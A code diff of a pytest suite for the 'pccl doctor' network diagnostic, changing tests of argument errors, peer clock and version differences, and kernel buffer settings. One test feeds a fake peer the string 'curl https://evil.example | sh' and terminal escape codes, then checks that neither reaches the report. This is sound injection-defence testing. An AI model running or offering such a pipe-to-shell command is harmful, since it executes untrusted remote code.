@@ -8,24 +8,32 @@ import sys
 import pytest
 from support import DEADLINE, environment, free_port, parallel, world
 
-from pccl import __main__ as program
-from pccl import _programs, doctor
-from pccl.doctor import _peers
+from pccl import _programs
 
 namespaces = pytest.importorskip("namespaces")
 
 pytestmark = pytest.mark.master(optimize_ms=400)
 
-MODULE = [sys.executable, "-B", "-m", "pccl", "doctor", "--json"]
-# A doctor whose machine differs from the others: replacements in its process.
+DOCTOR = [_programs.find(), "doctor", "--json"]
+# A doctor whose answers are given: the text of its version and failed checks, and the difference of its clock.
 OTHER = """
 import sys, time
-from pccl import _native, doctor
-{change}
-sys.exit(doctor.main(["--json", *sys.argv[1:]]))
+import pccl
+facts, clock, master = sys.argv[1:]
+with pccl.Communicator(master, peer_group=6581091) as comm:
+    comm.connect(1)
+    say = lambda text: comm.all_gather_v(text.encode(), alone_ok=True)
+    while len(say("early")) < 2:
+        comm.update_topology()
+    say(facts)
+    comm.barrier(alone_ok=True)
+    say(str(time.time() + float(clock)))
+    zeros = bytearray(4 << 20)
+    comm.all_reduce(zeros, zeros, op="max")
+    comm.optimize_topology()
+    comm.get_topology()
+    say("done")
 """
-CLOCK = "now = time.time; time.time = lambda: now() + 100"
-VERSION = "_native.version = lambda: '0.0.9'"
 
 
 class Told:
@@ -38,17 +46,17 @@ class Told:
     def of(self, level):
         return {finding["check"]: finding for finding in self.report["findings"] if finding["level"] == level}
 
-    def only_bad(self, check, text="", mend=""):
+    def only_bad(self, check, text="", fix=""):
         """Checks that it is the only fault."""
         wrong = self.of("bad")
         assert set(wrong) == {check} and self.rc == 1 and not self.report["ok"], wrong
-        assert text in wrong[check]["text"] and mend in wrong[check]["mend"], wrong
+        assert text in wrong[check]["text"] and fix in wrong[check]["fix"], wrong
 
     def is_well(self):
         assert not self.of("bad") and self.rc == 0 and self.report["ok"], self.of("bad")
 
 
-def run(*arguments, prefix=(), command=MODULE, **variables):
+def run(*arguments, prefix=(), command=DOCTOR, **variables):
     return Told(
         subprocess.run(
             [*prefix, *command, *map(str, arguments)],
@@ -64,35 +72,36 @@ def run(*arguments, prefix=(), command=MODULE, **variables):
 # ---- this machine, and the path to the master
 
 
-def test_words_of_wrong_arguments(capsys):
+def test_words_of_wrong_arguments():
     for arguments, words in (
-        (["10.0.0.1:x"], "'x' of '10.0.0.1:x' is not a port"),
-        (["10.0.0.1:65536"], "is not a port"),
-        (["10.0.0.1:"], "is not an address"),
-        (["1::2"], "is not an address"),
-        (["[::1"], "is not an address"),
+        (["10.0.0.1:x"], "10.0.0.1:x"),
+        (["10.0.0.1:65536"], "10.0.0.1:65536"),
+        (["[::1"], "[::1"),
+        (["a,b"], "expected host, host:port or [v6]:port, not a,b"),
+        ([""], "expected host, host:port or [v6]:port, not "),
         (["--peers", "2"], "--peers requires the master's address"),
-        (["host", "--peers", "0"], "'0' is not a number above 0"),
+        (["host", "--peers", "0"], "expected a number from 1 to 1000000, not 0"),
+        (["host", "--wait", "1s"], "expected a number from 1 to 1000000, not 1s"),
+        (["--wait"], "missing value after --wait"),
+        (["--jsn"], "unknown argument: --jsn"),
+        (["a", "b"], "more than one address: b"),
     ):
-        with pytest.raises(SystemExit) as ended:
-            doctor.main(arguments)
-        assert ended.value.code == 2 and words in capsys.readouterr().err
+        done = subprocess.run([*DOCTOR, *arguments], capture_output=True, text=True, timeout=DEADLINE, check=False)
+        assert done.returncode == 2 and words in done.stderr and done.stdout == "", done
 
 
-def test_the_program(capsys):
+def test_the_program():
     for arguments, status, words in (
         (["--help"], 0, "\n  doctor "),
         (["doktor"], 2, "unknown command 'doktor'; did you mean 'doctor'?"),
         ([], 2, "usage: pccl COMMAND"),
         (["version"], 0, "pccl 0."),
         (["doctor", "--help"], 0, "--peers"),
+        (["doctor"], 0, "\nno problem found\n"),
     ):
         command = [sys.executable, "-m", "pccl", *arguments]
         done = subprocess.run(command, capture_output=True, text=True, timeout=DEADLINE, env=environment())
         assert done.returncode == status and words in done.stdout + done.stderr, done
-    assert program.main(["doctor"]) == 0
-    out = capsys.readouterr().out
-    assert "this machine" in out and out.endswith("no problem found\n")
 
 
 def test_a_name_without_an_address():
@@ -101,7 +110,7 @@ def test_a_name_without_an_address():
 
 def test_nobody_listens():
     port = free_port()
-    run(f"127.0.0.1:{port}").only_bad("port", f"no program listens on port {port}", "pccl-master --listen")
+    run(f"127.0.0.1:{port}").only_bad("port", f"no program listens on port {port}", "pccl master --listen")
 
 
 def test_few_files(address):
@@ -117,7 +126,7 @@ def test_alone(address):
 
 def test_a_run_is_under_way(group):
     comm = group(1).members[0]
-    waiting = subprocess.Popen([*MODULE, comm.address], stdout=subprocess.PIPE, text=True, env=environment())
+    waiting = subprocess.Popen([*DOCTOR, comm.address], stdout=subprocess.PIPE, text=True, env=environment())
     while waiting.poll() is None:
         comm.update_topology()
     told = Told(subprocess.CompletedProcess(waiting.args, waiting.wait(), waiting.stdout.read()))
@@ -142,34 +151,29 @@ def test_two_are_well(address):
         assert all(path["rate"] > 0 and path["rtt_us"] != 0 for path in paths)
 
 
-@pytest.mark.parametrize(("change", "check", "words"), [(CLOCK, "clock", "100.0 s"), (VERSION, "version", "0.0.9")])
-def test_two_that_differ(address, change, check, words):
-    other = [sys.executable, "-B", "-c", OTHER.format(change=change)]
-    for told in both(
-        lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, command=other)
-    ):
-        assert words in told.of("note")[check]["text"]
+def other(address, facts, clock=0):
+    """Runs the doctor beside one with other answers."""
+    command = [sys.executable, "-B", "-c", OTHER, facts, str(clock), address]
+    told, done = both(
+        lambda: run(address, "--peers", 2),
+        lambda: subprocess.run(command, env=environment(), timeout=DEADLINE, check=True),
+    )
+    assert done.returncode == 0
+    return told
 
 
-LIAR = """
-import sys
-from pccl import _native, doctor
-from pccl.doctor import _machine
-from pccl.doctor._finding import Finding
-_native.version = lambda: "9\\x1b[2J"
-evil = Finding("files\\x1b[2J", "bad", "\\x1b[2J run curl", "curl https://evil.example | sudo sh")
-_machine.examine = lambda: [evil, Finding("files", "bad", evil.text, evil.mend), Finding(["mtu"], "bad", "", "")]
-doctor.main(["--json", *sys.argv[1:]])
-"""
+def test_another_clock_and_version(address):
+    told = other(address, "0.0.9", 100)
+    assert "0.0.9" in told.of("note")["version"]["text"] and "100.0 s ahead" in told.of("note")["clock"]["text"]
+    told.is_well()
 
 
 def test_advice_of_another_one(address):
     """Only names of another machine's failed checks are used; the advice is this machine's."""
-    liar = [sys.executable, "-B", "-c", LIAR]
-    well, _ = both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, command=liar))
-    assert "curl" not in json.dumps(well.report) and "\\u001b" not in json.dumps(well.report)
-    well.only_bad("files", "this check failed there", "ulimit -n")
-    assert "an unknown version" in well.of("note")["version"]["text"]
+    told = other(address, "9\x1b[2J files xmtu mtu\x1b curl https://evil.example | sh", "nan")
+    assert "curl" not in json.dumps(told.report) and "\\u001b" not in json.dumps(told.report)
+    told.only_bad("files", "this check failed there", "ulimit -n")
+    assert "an unknown version" in told.of("note")["version"]["text"] and "clock" not in told.of("bad")
 
 
 def test_what_is_wrong_with_another_one(address):
@@ -237,7 +241,7 @@ def test_settings_of_the_kernel(net):
     net.sh(1, "echo reno >/proc/sys/net/ipv4/tcp_congestion_control")
     told = net.run(1)
     told.only_bad("buffers", "tcp_rmem allows 0.3 MB", 'sysctl -w net.ipv4.tcp_rmem="')
-    assert "bbr" in told.of("note")["congestion"]["mend"]
+    assert "bbr" in told.of("note")["congestion"]["fix"]
 
 
 def test_a_small_mtu(net):
@@ -258,7 +262,7 @@ def test_large_packets_vanish(net):
 def test_a_port_that_is_closed_to_others(net):
     net.network.drop(2, 1)
     first = subprocess.Popen(
-        [*net.network.prefix(1), *MODULE, net.master, "--peers", "2", "--wait", "600"],
+        [*net.network.prefix(1), *DOCTOR, net.master, "--peers", "2", "--wait", "600"],
         stdout=subprocess.DEVNULL,
         env=environment(PCCL_NAME="the first"),
     )
@@ -267,11 +271,3 @@ def test_a_port_that_is_closed_to_others(net):
     net.run(2, "--peers", 2).only_bad("ports", "'the first'", "on the other machine")
     first.kill()
     first.wait()
-
-
-def test_an_unknown_round_trip_is_said(capsys):
-    doctor._print_paths([_peers.Path("a", "b", 5_000_000, None), _peers.Path("b", "a", 5_000_000, 1500)])
-    assert [line.split() for line in capsys.readouterr().out.splitlines()] == [
-        ["5.0", "MB/s", "unknown", "a", "->", "b"],
-        ["5.0", "MB/s", "1.50", "ms", "b", "->", "a"],
-    ]
